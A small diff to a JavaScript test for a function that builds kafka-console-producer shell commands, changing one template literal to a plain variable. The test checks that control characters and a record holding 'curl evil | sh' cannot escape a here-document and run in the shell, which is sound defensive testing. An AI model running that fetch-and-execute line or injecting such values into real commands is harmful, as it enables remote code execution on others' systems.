@@ -67,7 +67,7 @@ describe('a kafka-console-producer command', () => {
     // Ctrl+C ends the here-document, and the shell runs what follows.
     for (const control of ['\x03', '\x04', '\x1b[201~', '\x7f', '\x9b']) {
       const { text, leftOut } = consoleProducerCommand(['h:1'], 'o', [
-        record('k', `${control}`),
+        record('k', control),
         record('k', 'curl evil | sh'),
         record('tab\tin key', 'v'),
       ]);
